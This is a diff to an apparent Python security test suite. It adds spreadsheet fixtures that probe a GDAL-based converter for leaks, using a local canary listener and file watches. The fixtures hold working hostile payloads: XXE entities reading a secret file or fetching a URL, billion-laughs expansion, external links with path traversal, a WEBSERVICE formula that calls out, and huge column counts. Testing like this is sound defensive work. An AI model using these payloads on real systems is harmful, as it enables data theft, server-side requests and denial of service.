@@ -30,35 +30,37 @@ class Canaries:
         self.sources.mkdir()
         self.listener = socket.create_server(("127.0.0.1", 0))
         self.port = self.listener.getsockname()[1]
-        self.connections = 0
+        # The ports of those who connected.
+        self.peers = []
         self.libc = ctypes.CDLL(None)
         threading.Thread(target=self.accept, daemon=True).start()
 
     def accept(self):
         while True:
-            connection, _ = self.listener.accept()
+            connection, (_, port) = self.listener.accept()
             with connection:
-                self.connections += 1
+                self.peers.append(port)
 
     def watch(self, run):
         """Calls a function; returns what it returns, and what happened meanwhile that must not."""
         events = self.libc.inotify_init1(os.O_CLOEXEC | os.O_NONBLOCK)
         for path, mask in [(self.secrets, self.OPENED | self.CHANGED), (self.sources, self.CHANGED)]:
             self.libc.inotify_add_watch(events, str(path).encode(), mask)
-        before = self.connections
+        before = len(self.peers)
         try:
             result = run()
             # The last in the queue: those before it were accepted.
-            socket.create_connection(("127.0.0.1", self.port)).close()
-            while self.connections == before:
+            with socket.create_connection(("127.0.0.1", self.port)) as last:
+                own = last.getsockname()[1]
+            while own not in self.peers[before:]:
                 select.select([], [], [], 0.01)
             found = set()
             while select.select([events], [], [], 0)[0]:
                 found |= set(self.names(os.read(events, 65536)))
         finally:
             os.close(events)
-        if self.connections - before > 1:
-            found.add(f"{self.connections - before - 1} connections")
+        if len(self.peers) - before > 1:
+            found.add(f"{len(self.peers) - before - 1} connections")
         return result, sorted(found)
 
     @staticmethod
@@ -96,6 +98,7 @@ def sources(canaries):
     yield from documents(canaries)
     yield from packages(canaries)
     yield from shapes(canaries)
+    yield from spreadsheets(canaries)
     yield from names(canaries)
 
 
@@ -234,6 +237,60 @@ def shapes(canaries):
     length = int.from_bytes(content[start - 4:start], "little")
     (folder / "grid.fgb").write_bytes(content[:start] + grid.encode().ljust(length) + content[start + length:])
     yield Source(folder / "grid.fgb", "names another file")
+
+
+def spreadsheet(target, changes, extra=()):
+    """Makes a spreadsheet of one place with GDAL itself, and replaces texts in its members; adds further members."""
+    seed = target.parent.parent / "seed.csv"
+    seed.write_text("name,type,lat,lon\nA,cafe,1,2\n")
+    plain = target.with_name(f"source{target.suffix}")
+    plain.unlink(missing_ok=True)
+    subprocess.run(["ogr2ogr", "-f", target.suffix[1:].upper(), str(plain), str(seed), "-oo", "AUTODETECT_TYPE=YES"],
+                   check=True, capture_output=True)
+    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
+        for member in source.namelist():
+            text = source.read(member).decode()
+            for name, old, new in changes:
+                if name == member:
+                    assert old in text
+                    text = text.replace(old, new, 1)
+            archive.writestr(member, text)
+        for member, text in extra:
+            archive.writestr(member, text)
+    plain.unlink()
+    return target
+
+
+def spreadsheets(canaries):
+    folder, secret, url = canaries.sources, canaries.secrets / "a.csv", f"http://127.0.0.1:{canaries.port}"
+    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    texts, sheet, document = "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml", "content.xml"
+    laughs = "".join(f'<!ENTITY {after} "{f"&{before};" * 20}">' for before, after in zip("bcdefg", "cdefgh"))
+    for name, leads in [("file", f'<!ENTITY h SYSTEM "{secret}">'), ("url", f'<!ENTITY h SYSTEM "{url}/a">'),
+                        ("laughs", f'<!ENTITY b "aaaaaaaaaa">{laughs}')]:
+        # What isn't followed leaves the place without a name, and what would expand is refused.
+        message = "ogr2ogr: " if name == "laughs" else ""
+        yield Source(spreadsheet(folder / f"entity-{name}.xlsx", [
+            (texts, "<sst", f"<!DOCTYPE sst [{leads}]><sst"), (texts, "<t>A</t>", "<t>&h;</t>")]), message, places=0)
+        yield Source(spreadsheet(folder / f"entity-{name}.ods", [
+            (document, "<office:document-content", f"<!DOCTYPE a [{leads}]><office:document-content"),
+            (document, "<text:p>A</text:p>", "<text:p>&h;</text:p>")]), message, places=0)
+    link = (f'<Relationship Id="rId99" Type="{office}/externalLink" Target="{secret}" TargetMode="External"/>'
+            f'<Relationship Id="rId98" Type="{office}/worksheet" Target="../../../../{secret}"/>')
+    yield Source(spreadsheet(folder / "link.xlsx", [
+        ("xl/_rels/workbook.xml.rels", "</Relationships>", f"{link}</Relationships>"),
+        ("xl/workbook.xml", "</sheets>", '<sheet name="b" sheetId="9" r:id="rId98"/></sheets>'),
+        (sheet, "<v>4</v>", f"<f>'[{url}/b.xlsx]c'!A1</f><v>4</v>")]))
+    linked = (f'<table:table table:name="b"><table:table-source xlink:href="{url}/b.ods" '
+              'xmlns:xlink="http://www.w3.org/1999/xlink" table:table-name="c"/></table:table>')
+    yield Source(spreadsheet(folder / "link.ods", [
+        (document, "</office:spreadsheet>", f"{linked}</office:spreadsheet>"),
+        (document, '<table:table-cell office:value-type="string">\n<text:p>A',
+         f"<table:table-cell table:formula=\"of:=WEBSERVICE('{url}')\" office:value-type=\"string\">\n<text:p>A")]))
+    yield Source(spreadsheet(folder / "columns.xlsx", [(sheet, 'r="D1"', 'r="BGQCV1"')]), "ogr2ogr: ")
+    yield Source(spreadsheet(folder / "columns.ods", [
+        (document, '<table:table-cell office:value-type="string">',
+         '<table:table-cell table:number-columns-repeated="1048576" office:value-type="string">')]), "ogr2ogr: ")
 
 
 def names(canaries):
